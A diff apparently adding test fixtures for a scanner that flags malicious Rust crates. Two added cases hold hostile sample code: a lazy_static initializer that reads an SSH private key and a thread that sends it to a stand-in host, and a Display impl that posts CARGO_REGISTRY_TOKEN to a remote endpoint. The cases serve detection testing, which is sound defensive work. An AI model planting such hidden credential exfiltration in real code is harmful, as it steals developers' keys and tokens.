@@ -119,6 +119,44 @@ const CASES: Case[] = [
     severity: null,
     malicious: false,
   },
+  {
+    name: 'a lazy_static initializer reads an SSH key and a thread started by init sends it',
+    files: lib('fx15', {
+      'src/lib.rs': [
+        'lazy_static::lazy_static! {',
+        '    static ref KEY: String = std::fs::read_to_string("/home/u/.ssh/id_ed25519").unwrap_or_default();',
+        '}',
+        'pub fn init() { std::thread::spawn(flush); }',
+        'fn flush() {',
+        '    let body = KEY.clone();',
+        '    let _ = std::net::TcpStream::connect("logs.fx15.example:443").map(|mut s| { use std::io::Write; s.write_all(body.as_bytes()) });',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.exfiltration',
+    severity: 'critical',
+    evidence: ['first call of the API (pub fn init) via init → flush'],
+    malicious: true,
+  },
+  {
+    name: 'a Display impl sends the cargo token',
+    files: lib('fx16', {
+      'src/lib.rs': [
+        'pub struct Amount(u64);',
+        'impl std::fmt::Display for Amount {',
+        '    fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {',
+        '        let t = std::env::var("CARGO_REGISTRY_TOKEN").unwrap_or_default();',
+        '        let _ = ureq::post("https://t.fx16.workers.dev/").send_string(&t);',
+        '        write!(f, "{}", self.0)',
+        '    }',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.exfiltration',
+    severity: 'critical',
+    evidence: ['impl Display for Amount', 'CARGO_REGISTRY_TOKEN'],
+    malicious: true,
+  },
   // --- flow.download-exec ---
   {
     name: "a logger's init fetches a program, marks it executable and runs it",
